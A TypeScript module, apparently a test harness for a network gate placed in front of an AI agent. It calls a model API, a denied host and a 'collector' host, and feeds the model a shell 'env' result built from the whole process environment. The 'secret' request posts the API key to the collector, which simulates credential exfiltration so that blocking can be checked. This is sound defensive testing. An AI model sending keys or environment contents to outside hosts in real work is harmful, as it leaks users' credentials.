import type { AgentLine } from './line.ts';
import { type CallName, HOSTS, type Plan } from './plan.ts';

type Tell = (line: AgentLine) => void;
type Told = Omit<Extract<AgentLine, { type: 'call' }>, 'type' | 'name'>;

/** Each request; throws where no answer came. */
const REQUESTS: Readonly<Record<CallName, (plan: Plan, tell: Tell) => Promise<Told>>> = {
  model: async (plan, tell) => streamed(await ask(plan, [QUESTION]), tell),
  async denied() {
    const response = await fetch(`https://${HOSTS.denied}/report`);
    const { error } = (await response.json()) as { error?: { message?: string } };
    return {
      status: response.status,
      block: response.headers.get('x-gate-block') ?? '',
      message: error?.message ?? '',
    };
  },
  async secret({ key }) {
    const { status } = await post(`https://${HOSTS.collector}/notes`, {}, { note: `our key is ${key}` });
    return { status };
  },
  environment: async (plan, tell) =>
    streamed(await ask(plan, [QUESTION, TOOL_USE, environmentResult()]), tell),
};

/** Makes the requests, one after the other. */
export async function makeCalls(plan: Plan, tell: Tell): Promise<void> {
  for (const name of Object.keys(REQUESTS) as CallName[]) {
    const told = await REQUESTS[name](plan, tell).catch((error: unknown) => ({ error: reasonOf(error) }));
    tell({ type: 'call', name, ...told });
  }
}

const QUESTION = { role: 'user', content: 'Which variables are set here?' };
const CALL_ID = 'toolu_demo_1';
const TOOL_USE = {
  role: 'assistant',
  content: [{ type: 'tool_use', id: CALL_ID, name: 'Bash', input: { command: 'env' } }],
};

/** What a shell tool gives back for `env`. The demo has given this process nothing that is worth hiding. */
function environmentResult(): object {
  const content = Object.entries(process.env)
    .map(([name, value]) => `${name}=${value}`)
    .join('\n');
  return { role: 'user', content: [{ type: 'tool_result', tool_use_id: CALL_ID, content }] };
}

/** A call of the Messages API (docs.anthropic.com/en/api/messages), as an agent makes it. */
async function ask({ key }: Plan, messages: readonly object[]): Promise<Response> {
  const body = { model: 'demo-model-1', max_tokens: 1024, stream: true, messages };
  const headers = { 'x-api-key': key, 'anthropic-version': '2023-06-01' };
  return await post(`https://${HOSTS.model}/v1/messages`, headers, body);
}

async function post(url: string, headers: Record<string, string>, body: object): Promise<Response> {
  return await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
}

/** Reads an event stream to its end, and says when the first of it is there. */
async function streamed(response: Response, tell: Tell): Promise<Told> {
  let text = '';
  const decoder = new TextDecoder();
  for await (const piece of response.body ?? []) {
    if (text === '') tell({ type: 'first-event' });
    text += decoder.decode(piece as Uint8Array, { stream: true });
  }
  return { status: response.status, events: text.split(/^event: /m).length - 1 };
}

/** fetch says `fetch failed`; what failed is the cause. */
function reasonOf(error: unknown): string {
  const { cause, message } = error as Error;
  return cause instanceof Error ? `${(cause as NodeJS.ErrnoException).code ?? cause.message}` : message;
}
